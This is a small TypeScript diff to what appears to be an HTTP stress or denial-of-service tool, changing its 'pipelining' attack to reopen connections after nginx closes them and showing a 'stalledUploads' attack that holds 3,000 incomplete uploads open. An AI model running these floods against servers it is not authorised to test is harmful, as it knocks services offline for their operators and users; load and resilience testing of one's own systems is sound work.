@@ -66,11 +66,16 @@ function flood(perSecond: number, requestFor: (n: number, host: string) => strin
   };
 }
 
-/** One connection that keeps two pipelined requests under way. */
+/** One connection at a time that keeps two pipelined requests under way. */
 const pipelining: Attack = async (target, until) => {
   const tally: Tally = { sent: 0, answers: {} };
-  const pair = head('HEAD /about HTTP/1.1', target.host).repeat(2);
-  const socket = await open(target);
+  // nginx ends a connection after 1,000 requests.
+  while (performance.now() < until) await pipelineOn(await open(target), target.host, until, tally);
+  return tally;
+};
+
+async function pipelineOn(socket: Socket, host: string, until: number, tally: Tally) {
+  const pair = head('HEAD /about HTTP/1.1', host).repeat(2);
   let received = '';
   socket.on('data', (text) => {
     received += text;
@@ -84,8 +89,7 @@ const pipelining: Attack = async (target, until) => {
   socket.write(pair);
   await Promise.race([closed(socket), sleep(until - performance.now() + ANSWER_MS)]);
   socket.destroy();
-  return tally;
-};
+}
 
 /** Three thousand uploads that stop before their last byte. */
 const stalledUploads: Attack = async (target, until) => {
